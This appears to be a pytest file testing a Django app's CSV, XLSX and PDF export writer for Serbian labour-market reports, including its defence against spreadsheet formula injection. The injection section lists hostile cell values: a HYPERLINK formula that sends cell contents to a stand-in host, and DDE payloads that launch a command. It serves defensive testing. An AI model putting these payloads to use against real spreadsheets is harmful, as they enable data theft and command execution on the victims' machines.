"""The one export writer: CSV (BOM, ;), XLSX (sheet per table, bold header), PDF (DejaVu),
and no cell of any of them can become a spreadsheet formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.utils import translation
from openpyxl import load_workbook

from core.exports import (
    Document,
    Table,
    cell_text,
    is_formula_like,
    neutralise,
    write_csv,
    write_pdf,
    write_xlsx,
)
from reports.disclosure import SUPPRESSED
from reports.insights_views import export_filename

TABLE = Table(
    title="Вештине – Нишавски округ",
    columns=["Вештина", "Радна места", "Кандидати", "Однос"],
    rows=[["гајење малина", 12, SUPPRESSED, 2.5], ["Čišćenje / održavanje", 7, 5, None]],
)
TOTALS = Table(
    title="Placements by sector",
    columns=["Sector", "Internship", "Job", "Total"],
    rows=[["J", 13, 6, 19], ["Total", 13, 6, 19]],
    total_rows=1,
    note="A note under the table",
)
DOCUMENT = Document(
    title="Tržište rada: veštine i sektori",
    tables=[TABLE, TOTALS],
    filters=[("Okrug", "Nišavski okrug")],
    notes=["<5 means fewer than 5."],
    generated_on=dt.date(2026, 3, 1),
)


def test_cell_text_writes_hidden_counts_as_less_than_five_and_localises_numbers() -> None:
    with translation.override("sr-latn"):
        assert cell_text(SUPPRESSED) == "<5"
        assert cell_text(2.5) == "2,50"
        assert cell_text(None) == ""
        assert cell_text(12) == "12"
    with translation.override("en"):
        assert cell_text(2.5) == "2.50"


def test_csv_is_utf8_with_bom_and_semicolons() -> None:
    with translation.override("sr"):
        content = write_csv(DOCUMENT)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Tržište rada: veštine i sektori"]
    assert ["Okrug", "Nišavski okrug"] in rows
    assert ["Вештина", "Радна места", "Кандидати", "Однос"] in rows
    assert ["гајење малина", "12", "<5", "2,50"] in rows
    assert ["Čišćenje / održavanje", "7", "5", ""] in rows
    assert ["A note under the table"] in rows
    assert ["<5 means fewer than 5."] in rows


def test_xlsx_has_a_sheet_per_table_with_bold_headers() -> None:
    workbook = load_workbook(io.BytesIO(write_xlsx(DOCUMENT)))
    assert len(workbook.sheetnames) == 3  # the cover sheet, then one per table
    cover, skills, sectors = (workbook[name] for name in workbook.sheetnames)
    assert cover["A1"].value == "Tržište rada: veštine i sektori"
    assert skills.title == "Вештине – Нишавски округ"
    assert [cell.value for cell in skills[1]] == TABLE.columns
    assert all(cell.font.bold for cell in skills[1])
    assert [cell.value for cell in skills[2]] == ["гајење малина", 12, "<5", 2.5]
    assert skills.column_dimensions["A"].width >= len("Čišćenje / održavanje")
    assert [cell.value for cell in sectors[3]] == ["Total", 13, 6, 19]
    assert sectors["A3"].font.bold and not sectors["A2"].font.bold


def test_long_and_duplicate_sheet_titles_are_made_valid() -> None:
    long_title = "Skills in demand and held – Nišavski okrug: [all]"
    document = Document(
        title="T",
        tables=[
            Table(title=long_title, columns=["a"], rows=[]),
            Table(title=long_title, columns=["a"], rows=[]),
        ],
    )
    names = load_workbook(io.BytesIO(write_xlsx(document))).sheetnames
    assert all(len(name) <= 31 and "[" not in name and ":" not in name for name in names)
    assert len(set(names)) == 3


def test_pdf_embeds_the_dejavu_font() -> None:
    content = write_pdf(DOCUMENT, date_label="1. 3. 2026.")
    assert content.startswith(b"%PDF")
    assert content.rstrip().endswith(b"%%EOF")
    assert b"DejaVuSans" in content
    assert b"Helvetica" not in content
    assert len(content) > 5000  # the embedded font subset alone is a few kilobytes


def test_filenames_are_ascii_with_scope_and_date() -> None:
    name = export_filename(
        "tržište rada", "Нишавски округ", extension="xlsx", on=dt.date(2026, 3, 1)
    )
    assert name == "trziste-rada_nisavski-okrug_2026-03-01.xlsx"


# --- formula injection (OWASP CSV injection) ---------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klikni")',
    "+381641234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "＝1+1",
    "=Марко Марковић",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_leading_text_is_neutralised_with_a_leading_quote(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Marko Marković", "Ана", "'=already quoted", "a=b", "<5", ""])
def test_ordinary_text_is_left_as_written(text: str) -> None:
    assert neutralise(text) == text


def test_numbers_stay_numbers_even_when_negative() -> None:
    with translation.override("en"):
        assert cell_text(-75) == "-75"
        assert cell_text(-0.5) == "-0.50"


HOSTILE_DOCUMENT = Document(
    title="=cmd|' /C calc'!A0",
    filters=[("Kompanija", "@evil")],
    tables=[
        Table(
            title="+Kandidati",
            columns=["Ime", "Skor", "Razlika"],
            rows=[[text, 0.5, -75] for text in HOSTILE],
            note="-note",
        )
    ],
    notes=["=note"],
)


def test_no_csv_cell_begins_with_a_formula_character() -> None:
    with translation.override("en"):
        content = write_csv(HOSTILE_DOCUMENT).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content), delimiter=";") for cell in row]
    text_cells = [cell for cell in cells if cell and cell not in {"0.50", "-75"}]
    assert text_cells
    assert all(not is_formula_like(cell) for cell in text_cells)
    assert "'" + HOSTILE[0] in cells  # the whole text survives after the quote
    assert "-75" in cells  # a number is not text


def test_xlsx_writes_hostile_text_as_text_never_as_a_formula() -> None:
    content = write_xlsx(HOSTILE_DOCUMENT)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        xml = b"".join(archive.read(name) for name in sheets)
        styles = archive.read("xl/styles.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    assert b'quotePrefix="1"' in styles
    workbook = load_workbook(io.BytesIO(content))
    table = workbook[workbook.sheetnames[1]]
    names = [row[0] for row in table.iter_rows(min_row=2, max_row=len(HOSTILE) + 1)]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)
    # XML reads a carriage return back as a line feed; the text is otherwise exact
    assert [cell.value for cell in names] == [text.replace("\r", "\n") for text in HOSTILE]
    first = table["A2"]
    assert first.value == HOSTILE[0] and first.data_type == "s" and first.quotePrefix
    assert table["C2"].value == -75 and table["C2"].data_type == "n"
    assert not table["A1"].quotePrefix


def test_xlsx_drops_control_characters_it_cannot_hold() -> None:
    document = Document(title="", tables=[Table(title="", columns=["a"], rows=[["Ana\x01\x1f"]])])
    sheet = load_workbook(io.BytesIO(write_xlsx(document, sheet_name="x"))).active
    assert sheet is not None and sheet["A2"].value == "Ana"


def test_pdf_of_hostile_text_is_written() -> None:
    content = write_pdf(HOSTILE_DOCUMENT)
    assert content.startswith(b"%PDF")
